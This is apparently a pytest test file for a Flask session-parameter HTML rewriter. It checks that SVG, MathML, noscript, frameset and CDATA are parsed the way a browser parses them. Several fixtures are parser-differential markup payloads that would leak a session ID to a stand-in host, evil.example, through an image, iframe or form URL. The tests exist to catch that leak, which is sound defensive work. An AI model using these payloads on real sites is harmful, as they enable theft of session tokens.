"""SVG, MathML, frameset and noscript: the rewriter reads text where a browser
reads text, and markup where it reads markup, or leaves the rest alone."""

from __future__ import annotations

import pytest

from flask_namedsessions import scanner
from flask_namedsessions.rewrite import rewrite_html
from flask_namedsessions.urls import Origin
from tests.test_rewrite import stream

HTTP = Origin("http", "example.com")
PARAMS = {"_session:cart": "ID"}
Q = "_session:cart=ID"
X = f'<a href="/x?{Q}">'
Y = f'<a href="/y?{Q}">'

#: (document, rewritten); a trailing <a href=/y> shows whether rewriting goes on
FOREIGN = {
    # the leaks: a link the rewriter saw was, for the browser, inside a URL
    "svg_style_is_markup": (
        '<svg><style><image href=\'http://evil.example/log?</style><iframe src="/x">'
        "</iframe>'/></svg><a href=/y>",
        '<svg><style><image href=\'http://evil.example/log?</style><iframe src="/x">'
        f"</iframe>'/></svg>{Y}",
    ),
    "svg_title_is_an_integration_point": (
        "<svg><title><a href='http://evil.example/t?</title><a href=\"/x\">'>t</a></title>"
        "</svg><a href=/y>",
        "<svg><title><a href='http://evil.example/t?</title><a href=\"/x\">'>t</a></title>"
        f"</svg>{Y}",
    ),
    "math_style_is_markup_and_img_breaks_out": (
        "<math><style><img src='http://evil.example/m?</style><a href=\"/x\">'></math><a href=/y>",
        "<math><style><img src='http://evil.example/m?</style><a href=\"/x\">'></math>" + Y,
    ),
    "noscript_is_text": (
        '<noscript><a title="</noscript><img src=\'http://evil.example/n?" href="/x">\'>'
        "</noscript><a href=/y>",
        '<noscript><a title="</noscript><img src=\'http://evil.example/n?" href="/x">\'>'
        f"</noscript>{Y}",
    ),
    "svg_attribute_hides_the_end_of_style": (
        '<svg><path/><style><a title="</style><a href=/x>"></style></svg><a href=/y>',
        f'<svg><path/><style><a title="</style><a href=/x>"></style></svg>{Y}',
    ),
    # markup in foreign content: links are links (SVG <a> navigates)
    "svg_link": ("<svg><a href=/x>t</a></svg>", f"<svg>{X}t</a></svg>"),
    "svg_textarea_holds_markup": (
        "<svg><textarea><a href=/x></textarea></svg>",
        f"<svg><textarea>{X}</textarea></svg>",
    ),
    "svg_script_holds_markup": (
        "<svg><script><a href=/x></script></svg><a href=/y>",
        f"<svg><script>{X}</script></svg>{Y}",
    ),
    "math_noscript_holds_markup": (
        "<math><noscript><a href=/x></noscript></math>",
        f"<math><noscript>{X}</noscript></math>",
    ),
    "svg_in_table": (
        "<table><svg><style><a href=/x></style></svg></table>",
        f"<table><svg><style>{X}</style></svg></table>",
    ),
    # integration points: HTML rules for start tags
    "foreign_object_style_is_text": (
        "<svg><foreignObject><style><a href=/x></style><a href=/y></a></foreignObject></svg>",
        f"<svg><foreignObject><style><a href=/x></style>{Y}</a></foreignObject></svg>",
    ),
    "desc_textarea_is_text": (
        "<svg><desc><textarea><a href=/x></textarea></desc></svg><a href=/y>",
        f"<svg><desc><textarea><a href=/x></textarea></desc></svg>{Y}",
    ),
    "mi_style_is_text": (
        "<math><mi><style><a href=/x></style></mi></math>",
        "<math><mi><style><a href=/x></style></mi></math>",
    ),
    "mglyph_in_mi_is_mathml": (
        "<math><mi><mglyph><style><a href=/x></style></mglyph></mi></math>",
        f"<math><mi><mglyph><style>{X}</style></mglyph></mi></math>",
    ),
    "annotation_xml_for_html": (
        "<math><annotation-xml encoding='TEXT/HTML'><style><a href=/x></style>"
        "</annotation-xml></math><a href=/y>",
        "<math><annotation-xml encoding='TEXT/HTML'><style><a href=/x></style>"
        f"</annotation-xml></math>{Y}",
    ),
    "annotation_xml_for_xhtml": (
        '<math><annotation-xml encoding="application/xhtml+xml"><title><a href=/x></title>',
        '<math><annotation-xml encoding="application/xhtml+xml"><title><a href=/x></title>',
    ),
    "annotation_xml_for_other": (
        "<math><annotation-xml encoding=image/svg><style><a href=/x></style></annotation-xml>",
        f"<math><annotation-xml encoding=image/svg><style>{X}</style></annotation-xml>",
    ),
    "svg_in_annotation_xml": (
        "<math><annotation-xml><svg><style><a href=/x></style></svg></annotation-xml></math>",
        f"<math><annotation-xml><svg><style>{X}</style></svg></annotation-xml></math>",
    ),
    "svg_in_math_is_mathml": (
        "<math><svg><foreignObject><style><a href=/x></style></foreignObject></svg></math>",
        f"<math><svg><foreignObject><style>{X}</style></foreignObject></svg></math>",
    ),
    "svg_in_mi_is_svg": (
        "<math><mi><svg><foreignObject><style><a href=/x></style></foreignObject></svg></mi>",
        "<math><mi><svg><foreignObject><style><a href=/x></style></foreignObject></svg></mi>",
    ),
    "end_tag_ignored_inside_a_point": (
        "<svg><foreignObject><span></div></span><style><a href=/x></style></foreignObject>"
        "</svg><a href=/y>",
        "<svg><foreignObject><span></div></span><style><a href=/x></style></foreignObject>"
        f"</svg>{Y}",
    ),
    # CDATA is a section of text in foreign content only
    "cdata_in_svg": (
        "<svg><![CDATA[ > <a href=/x> ]]><a href=/y></svg>",
        f"<svg><![CDATA[ > <a href=/x> ]]>{Y}</svg>",
    ),
    "cdata_in_foreign_object": (
        "<svg><foreignObject><![CDATA[ > <a href=/x> ]]></foreignObject></svg>",
        "<svg><foreignObject><![CDATA[ > <a href=/x> ]]></foreignObject></svg>",
    ),
    "cdata_in_html_inside_foreign_object": (
        "<svg><foreignObject><div><![CDATA[ > <a href=/x> ]]></div></foreignObject></svg>",
        f"<svg><foreignObject><div><![CDATA[ > {X} ]]></div></foreignObject></svg>",
    ),
    "self_closing_div_stays_open": (
        "<svg><foreignObject><div/><![CDATA[ > <a href=/x> ]]></foreignObject></svg>",
        f"<svg><foreignObject><div/><![CDATA[ > {X} ]]></foreignObject></svg>",
    ),
    "cdata_in_html": ("<![CDATA[ > <a href=/x> ]]>", f"<![CDATA[ > {X} ]]>"),
    # self-closing tags
    "self_closing_svg_opens_nothing": (
        "<svg/><style><a href=/x></style><a href=/y>",
        f"<svg/><style><a href=/x></style>{Y}",
    ),
    "self_closing_foreign_object": (
        "<svg><foreignObject/><style><a href=/x></style></svg>",
        f"<svg><foreignObject/><style>{X}</style></svg>",
    ),
    "slash_ending_an_unquoted_value": (
        "<svg><foreignObject d=x/><style><a href=/x></style></svg>",
        "<svg><foreignObject d=x/><style><a href=/x></style></svg>",
    ),
    # leaving foreign content
    "breakout_b": (
        "<svg><g><b><style><a href=/x></style></b></svg>",
        "<svg><g><b><style><a href=/x></style></b></svg>",
    ),
    "breakout_font_with_color": (
        "<svg><font color=red><style><a href=/x></style></svg>",
        "<svg><font color=red><style><a href=/x></style></svg>",
    ),
    "font_without_color_stays": (
        "<svg><font><style><a href=/x></style></font></svg>",
        f"<svg><font><style>{X}</style></font></svg>",
    ),
    "end_p_breaks_out": (
        "<svg><g></p><style><a href=/x></style>",
        "<svg><g></p><style><a href=/x></style>",
    ),
    "end_svg_closes_what_is_open": (
        "<svg><g><path></SVG><style><a href=/x></style><a href=/y>",
        f"<svg><g><path></SVG><style><a href=/x></style>{Y}",
    ),
    "end_math_in_upper_case": (
        "<MATH><MI>x</MI></Math><style><a href=/x></style><a href=/y>",
        f"<MATH><MI>x</MI></Math><style><a href=/x></style>{Y}",
    ),
    # what the rewriter cannot follow: it stops before a tag read two ways
    "unknown_end_tag_then_style": (
        "<a href=/y><svg><g></div><style><a href=/x></style><a href=/y>",
        f"{Y}<svg><g></div><style><a href=/x></style><a href=/y>",
    ),
    "unknown_end_tag_then_end_svg": (
        "<svg><g></div></svg><style><a href=/x></style><a href=/y>",
        f"<svg><g></div></svg><style><a href=/x></style>{Y}",
    ),
    "unknown_end_tag_then_cdata": (
        "<svg><g></div><a href=/y><![CDATA[ > <a href=/x> ]]>",
        f"<svg><g></div>{Y}<![CDATA[ > <a href=/x> ]]>",
    ),
    "table_cell_inside_a_point": (
        "<table><tr><td><svg><foreignObject><td><style><a href=/x></style><a href=/y>",
        f"<table><tr><td><svg><foreignObject><td><style><a href=/x></style>{Y}",
    ),
    "table_end_tag_inside_a_point": (
        "<svg><foreignObject><div></td><style><a href=/x></style></foreignObject></svg><a href=/y>",
        f"<svg><foreignObject><div></td><style><a href=/x></style></foreignObject></svg>{Y}",
    ),
    "end_tag_two_elements_down_inside_a_point": (
        "<svg><foreignObject><div><span></div></foreignObject>"
        "<style><a href=/x></style><a href=/y>",
        "<svg><foreignObject><div><span></div></foreignObject>"
        "<style><a href=/x></style><a href=/y>",
    ),
    "p_end_tag_breaks_out_to_the_p_inside_a_point": (
        "<svg><foreignObject><p><svg><g></p></foreignObject><style><a href=/x></style></svg>"
        "<a href=/y>",
        f"<svg><foreignObject><p><svg><g></p></foreignObject><style>{X}</style></svg>{Y}",
    ),
    "form_end_tag_in_svg_closes_nothing": (
        "<svg><g></form><style><a href=/x></style></svg><a href=/y>",
        f"<svg><g></form><style>{X}</style></svg>{Y}",
    ),
    "html_end_tag_in_svg_closes_nothing": (
        "<svg><g></html><style><a href=/x></style></svg><a href=/y>",
        f"<svg><g></html><style>{X}</style></svg>{Y}",
    ),
    "start_tag_that_closes_a_p_inside_a_point": (
        "<svg><foreignObject><p><div><a href=/x></div></foreignObject>"
        "<style><a href=/x></style><a href=/y>",
        f"<svg><foreignObject><p><div>{X}</div></foreignObject>"
        "<style><a href=/x></style><a href=/y>",
    ),
    "frameset_ignores_style": (
        '<frameset><frame src=/y><style><frame src="http://evil.example/f?</style>'
        "<frame src='/x'>\"></frameset>",
        '<frameset><frame src="/y?_session:cart=ID"><style><frame src="http://evil.example/'
        "f?</style><frame src='/x'>\"></frameset>",
    ),
    "frameset_noframes_is_text": (
        "<frameset><noframes><a href=/x></noframes><frame src=/y></frameset>",
        f'<frameset><noframes><a href=/x></noframes><frame src="/y?{Q}"></frameset>',
    ),
    "select_style_is_text": (
        '<select><style><a title="</style><a href=/x>"></style></select>',
        f'<select><style><a title="</style>{X}"></style></select>',
    ),
}


@pytest.mark.parametrize(("html", "expected"), FOREIGN.values(), ids=FOREIGN.keys())
def test_foreign_content_read_as_a_browser_when_rewriting(html: str, expected: str) -> None:
    assert rewrite_html(html, PARAMS, HTTP) == expected
    for size in (1, 3, 7):
        assert "".join(stream(html, size)) == expected, size


#: forms and bases inside foreign content are not forms and bases
ELEMENTS = {
    "svg_form_is_no_form": (
        "<svg><form></form></svg><form>",
        '<svg><form></form></svg><form><input type="hidden" name="_session:cart" value="ID">',
    ),
    "svg_form_end_tag_keeps_the_form_open": (
        "<form action=//evil.example><svg><form></form></svg><form>",
        "<form action=//evil.example><svg><form></form></svg><form>",
    ),
    "svg_base_is_ignored": (
        "<svg><base href=/a/></svg><base href=//evil.example/><a href=x>",
        "<svg><base href=/a/></svg><base href=//evil.example/><a href=x>",
    ),
    "uncertain_base_makes_relative_links_foreign": (
        "<svg><g></div><base href=/a/></svg><a href=x><a href=http://example.com/>",
        f'<svg><g></div><base href=/a/></svg><a href=x><a href="http://example.com/?{Q}">',
    ),
    "uncertain_form_gets_no_input": (
        "<svg><g></div><form></form></svg><form>",
        "<svg><g></div><form></form></svg><form>",
    ),
}


@pytest.mark.parametrize(("html", "expected"), ELEMENTS.values(), ids=ELEMENTS.keys())
def test_forms_and_bases_in_foreign_content_are_not_html(html: str, expected: str) -> None:
    assert rewrite_html(html, PARAMS, HTTP) == expected


def test_rewriting_resumes_when_deep_foreign_content_ends() -> None:
    html = "<svg>" + "<g>" * 100 + "</svg><style><a href=/x></style><a href=/y>"
    assert rewrite_html(html, PARAMS, HTTP) == html.replace("<a href=/y>", Y)


def test_rewriting_stops_when_foreign_content_is_too_deep_to_follow() -> None:
    html = "<svg>" + "<g>" * 200 + "<a href=/y></svg><style><a href=/x></style><a href=/y>"
    assert rewrite_html(html, PARAMS, HTTP) == html.replace("<a href=/y>", Y, 1)


@pytest.mark.parametrize("window", [1, 2, 3])
def test_text_in_foreign_content_kept_when_reading_windows_are_small(
    monkeypatch: pytest.MonkeyPatch, window: int
) -> None:
    monkeypatch.setattr(scanner, "_WINDOW", window)
    html = "<math> href=<mi>x</mi> a < b <svg><a href=/x></a></svg>"
    assert rewrite_html(html, PARAMS, HTTP) == html.replace("<a href=/x>", X)
